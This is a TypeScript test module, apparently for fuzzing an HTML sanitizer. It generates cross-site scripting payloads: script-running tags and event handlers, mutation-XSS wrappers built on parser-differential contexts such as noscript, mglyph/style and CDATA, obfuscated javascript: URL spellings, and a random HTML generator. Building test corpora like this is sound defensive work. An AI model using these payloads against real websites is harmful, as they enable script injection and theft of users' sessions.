import type { Random } from './random.ts'

/** What a payload does where it runs. */
const run = 'hit()'

/** Elements that run something as soon as a browser makes them. */
const vectors = [
  `<script>${run}</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<script type=module>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}" alt="`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\n=\n${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x></svg>`,
  `<svg><image href=x onerror=${run}></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${run} /><text>a</text></a></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<video src=x onerror=${run}></video>`,
  `<video><source src=x onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data=x onerror=${run}></object>`,
  `<embed src="javascript:${run}">`,
  `<input autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<select autofocus onfocus=${run}></select>`,
  `<button autofocus onfocus=${run}>a</button>`,
  `<a href=x autofocus onfocus=${run}>a</a>`,
  `<x-y tabindex=1 autofocus onfocus=${run}>a</x-y>`,
  `<p contenteditable autofocus onfocus=${run}>a</p>`,
  `<details open ontoggle=${run}>a</details>`,
  `<marquee onstart=${run}>a</marquee>`,
  `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart=${run}>a</b>`,
  `<link rel=stylesheet href="data:text/css,a" onload=${run}>`,
  `<style onload=${run}></style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:/a/"><a href="../..//${run}">a</a>`,
  `<form action="javascript:${run}"><button autofocus>a</button></form>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
] as const

type Wrap = (payload: string) => string

/** Places from which parsers take a payload for something else than browsers do. */
const places: readonly [Wrap, ...Wrap[]] = [
  (payload) => payload,
  (payload) => `<p>Cook</p>${payload}<p>Driver</p>`,
  (payload) => `<table>${payload}</table>`,
  (payload) => `<table><tr><td>${payload}<td>`,
  (payload) => `<ul><li>${payload}`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<noscript>${payload}</noscript>`,
  (payload) => `<template>${payload}</template>`,
  (payload) => `<textarea></textarea>${payload}`,
  (payload) => `<title><a title="</title>${payload}">`,
  (payload) => `<style><a title="</style>${payload}">`,
  (payload) => `<xmp><a title="</xmp>${payload}">`,
  (payload) => `<iframe><a title="</iframe>${payload}">`,
  (payload) => `<noembed><a title="</noembed>${payload}">`,
  (payload) => `<noframes><a title="</noframes>${payload}">`,
  (payload) => `<plaintext>${payload}`,
  (payload) => `<!--><b>${payload}-->`,
  (payload) => `<!-- --!>${payload}<!-- -->`,
  (payload) => `<!--${payload}--!>${payload}`,
  (payload) => `<![CDATA[${payload}]]>`,
  (payload) => `<svg><![CDATA[><a title="]]>${payload}">`,
  (payload) => `<?xml ${payload}?>`,
  (payload) =>
    `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;${payload.replaceAll('"', '&quot;')}">`,
  (payload) => `<form><math><mtext></form><form><mglyph><style></math>${payload}`,
  (payload) => `<math><mtext><table><mglyph><style><math>${payload}`,
  (payload) => `<svg></p><style><a id="</style>${payload}">`,
  (payload) => `<svg><p><style><g title="</style>${payload}">`,
  (payload) => `<math><annotation-xml encoding="text/html"><style>${payload}`,
  (payload) => `<svg><desc>${payload}</desc></svg>`,
  (payload) => `<svg><title><style>${payload}</style></title></svg>`,
  (payload) => `<select><option>${payload}</option></select>`,
  (payload) => `<select><noscript></select>${payload}`,
  (payload) => `<a href="https://example.com/?" title='"'>${payload}</a>`,
  (payload) => `<b title="</b>${payload.replaceAll('"', "'")}">a</b>`,
  (payload) => `<table><caption><svg><desc><table><caption></table>${payload}`,
  (payload) => `${'<div>'.repeat(70)}${payload}`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '&#x3c;').replaceAll('>', '&#62;'),
  (payload) => payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (payload) => payload.replaceAll('<', '\u00bc').replaceAll('>', '\u00be'),
  (payload) => payload.replace('<', '<\0'),
  (payload) => payload.replace(/<(\w)(\w*)/, '<$1\0$2'),
  (payload) => payload.replace('<', '<<'),
  (payload) => payload.replace('>', ''),
]

/** Addresses that run something, in the spellings that browsers understand or once did. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\r\nscript:${run}`,
  `javascript\t:${run}`,
  `&#106;avascript:${run}`,
  `&#x6a;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `javascript&colon;${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:/*https://*/${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>opener.${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0KCk8L3NjcmlwdD4=`,
  `blob:https://example.com/${run}`,
  `filesystem:https://example.com/${run}`,
  `view-source:javascript:${run}`,
  `//example.com/${run}`,
  `\\\\example.com\\${run}`,
  `x:${run}`,
  `https:javascript:${run}`,
  `mailto:a@b?subject=<script>${run}</script>`,
  `tel:"><img src=x onerror=${run}>`,
  `https://a" onclick="${run}`,
  `https://a' autofocus onfocus='${run}`,
] as const

/** Payloads that run in a browser which shows them as they are, or did in one of its parsers' days. */
export const payloads: readonly string[] = [
  ...vectors.flatMap((vector) => places.map((place) => place(vector))),
  ...addresses.flatMap((address) => [
    `<a href="${address}">a</a>`,
    `<a href='${address.replaceAll("'", '&#39;')}'>a</a>`,
    `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
    `<form><button formaction="${address}">a</button></form>`,
    `<area href="${address}">`,
  ]),
]

const names = [
  ...'a b i p u h1 h2 h3 h6 br hr li ol ul td th tr div span table tbody thead caption blockquote strong em'.split(
    ' ',
  ),
  ...'svg math style script template title textarea noscript select option form input img iframe pre mglyph mtext'.split(
    ' ',
  ),
  ...'desc foreignObject annotation-xml menu dl dt dd font center details summary button object body html head bdi'.split(
    ' ',
  ),
]
const words = [
  'Cook',
  'شۆفێر',
  ' ',
  '\n',
  '0750 123 4567',
  '&lt;b&gt;',
  '&amp;#60;',
  '<',
  '>',
  '"',
  '\0',
  '\u202e',
  '-->',
  ']]>',
  'a@b.example',
]
const properties = [
  '',
  ' href=https://example.com/',
  ` href="javascript:${run}"`,
  ` onclick="${run}"`,
  ' style=color:red',
  ' id=location',
  ' colspan=9999',
  ' start=x',
  ' dir=rtl',
  ' title="</style>"',
]
const comments = ['<!--', '-->', '<![CDATA[', '<!doctype html>', '<?x?>']

const of = (all: readonly string[], { below }: Random) => all[below(all.length)] ?? ''

/** A document of elements, words and half of either, nested as it comes. */
export const randomHtml = (random: Random): string => {
  const piece = () => {
    const kind = random.next()
    if (kind < 0.45) return `<${of(names, random)}${of(properties, random)}>`
    if (kind < 0.65) return `</${of(names, random)}>`
    return of(kind < 0.97 ? words : comments, random)
  }
  return Array.from({ length: 2 + random.below(40) }, piece).join('')
}
